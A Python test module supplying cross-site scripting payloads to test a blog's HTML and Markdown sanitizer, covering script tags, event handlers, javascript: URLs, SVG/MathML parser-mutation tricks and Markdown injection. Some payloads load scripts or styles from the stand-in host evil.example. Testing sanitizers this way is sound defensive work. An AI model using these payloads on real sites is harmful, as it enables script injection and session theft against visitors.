"""HTML and Markdown that tries to run a script, and variations of it. Extended by the corpus if `BLOG_TEST_CORPUS` is set."""

import json
import os
from pathlib import Path

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</title></textarea></style><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
]
_EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x\tonerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `"` onerror=alert(1)>',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover=alert(1) onclick='alert(1)'>x</p>",
    "<a onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=x onerror=alert(1)></object>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<div onpointerover=alert(1)>x</div>",
]
_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "//evil.example/%0d%0aSet-Cookie:x=1",
]
_MUTATIONS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p title='&lt;/p&gt;<img src=x onerror=alert(1)>'>x</p>",
    "<table><td><a title='</td></table><img src=x onerror=alert(1)>'>x",
]
_ELEMENTS = [
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { color: red }</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<applet code=x onerror=alert(1)></applet>",
]
_FORMULAS_AND_MEDIA = [
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "$\\style{position:fixed}{x} \\class{toolbar}{y} \\color{red;background:url(//evil.example)}{z}$",
    "$$\n\\text{&lt;img src=x onerror=alert(1)&gt;}\n$$",
    '$x" onclick="alert(1)$',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><p><img src=x onerror=alert(1)></p></mtext></math>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<math alttext='</math><img src=x onerror=alert(1)>'><mi>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><semantics><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></semantics></math>",
    "<video src=x onerror=alert(1) poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "<audio autoplay src=//evil.example/a.mp3 onplay=alert(1)></audio>",
    '![x" onerror="alert(1)](a.mp4"onerror=alert(1))',
    "![x](javascript:alert(1)//a.mp4)",
    '## x {#a" onclick="alert(1)}',
    "## x {#location}",
    '*[x]: "><img src=x onerror=alert(1)>\n\nx',
    "*[<script>]: alert(1)\n\n&lt;script>",
    "> [!NOTE onclick=alert(1)]\n> x",
    '> [!NOTE]\n> <img src=x onerror=alert(1)>\n> "><script>alert(1)</script>',
    "==<img src=x onerror=alert(1)>==",
    'https://youtu.be/dQw4w9WgXc"onload=alert(1)',
    "<p class=embed><a href=javascript:alert(1)>https://youtu.be/dQw4w9WgXcQ</a></p>",
    "<div class=embed-card data-frame=javascript:alert(1) data-provider=x></div>",
    "x\n: <script>alert(1)</script>",
]
_CLOBBERING = [
    "<a id=document name=cookie href=x>x</a>",
    "<img name=getElementById>",
    "<p id=__proto__ class=constructor>x</p>",
    "<form id=location><input name=href></form>",
]
_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](/ "onmouseover=alert(1)")',
    '![x](x"onerror="alert(1))',
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "```<img src=x onerror=alert(1)>\n```",
    "```js onload=alert(1)\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    "| <img src=x onerror=alert(1)> |\n|-|\n| x |",
]

OWN_PAYLOADS = [
    *_SCRIPTS,
    *_EVENT_HANDLERS,
    *_URLS,
    *(f'<a href="{url}">x</a><img src="{url}">' for url in _URLS),
    *_MUTATIONS,
    *_ELEMENTS,
    *_FORMULAS_AND_MEDIA,
    *_CLOBBERING,
    *_MARKDOWN,
]


def load_payloads() -> list[str]:
    """Return the payloads above and those of the corpus."""
    return [*OWN_PAYLOADS, *_corpus_payloads()]


def _corpus_payloads() -> list[str]:
    if not (corpus := os.environ.get("BLOG_TEST_CORPUS")):
        return []
    folder = Path(corpus, "sanitizer")
    naughty = json.loads((folder / "blns.json").read_text("utf-8"))
    bleach = [case["payload"] for case in json.loads((folder / "bleach-data.json").read_text("utf-8"))]
    html5lib = [case["input"] for case in json.loads((folder / "html5lib-sanitizer-tests1.json").read_text("utf-8"))]
    xss = (folder / "xss-payloads-dev.txt").read_text("utf-8").splitlines()
    lines = (folder / "blns.txt").read_text("utf-8").splitlines()
    payloads = [*naughty, *bleach, *html5lib, *xss, *lines]
    assert len(payloads) > 1500
    return payloads
